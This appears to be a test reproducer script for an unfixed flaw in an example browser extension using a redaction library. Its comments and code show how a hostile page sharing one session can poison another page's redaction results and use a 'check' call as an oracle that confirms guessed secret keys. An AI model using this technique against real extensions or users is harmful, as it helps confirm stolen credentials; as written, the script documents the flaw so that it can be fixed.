// Reproducer (not fixed, see README.md here): the extension example keeps one redactor and one
// session for every page the content script runs in. A hostile page B, whose script posts
// "redact" and "check" requests (content.js forwards the page's own postMessage), can
//   1. teach the shared known set a word of its choosing, so that page A's results lose it;
//   2. ask "check" whether a value is a secret some other page's result held (an oracle: it
//      confirms a guess, it never returns a value);
//   3. raise the shared labels, so that page A's calls are asked about.
// Run: node tests/repro_s27_l/shared-extension-session.mjs (after npm run build)
import { createRedactor } from "webmcp-redact";

const redactor = await createRedactor();
const session = redactor.session(); // worker.js: one for all pages

// Page A (bank.example): a real secret is redacted.
session.redactJson({ name: "get_key", outputSchema: { type: "object", properties: { key: { type: "string", "x-sensitive": true } } } }, '{"key":"sk_live_bank_7781"}');
// Page B (evil.example): marks a common word, then probes a guess.
session.redactJson({ name: "evil", outputSchema: { type: "object", properties: { w: { "x-sensitive": true } } } }, '{"w":"invoice"}');
const probe = (guess) => session.check({ name: "evil_probe", annotations: { readOnlyHint: true, openWorldHint: false } }, { q: guess }).decision;
console.log("oracle:", { right: probe("sk_live_bank_7781"), wrong: probe("sk_live_bank_0000") });
// Page A again: its own result loses the word page B chose.
console.log("poisoned:", session.redactJson({ name: "list_invoices" }, '{"title":"invoice 12"}').json);
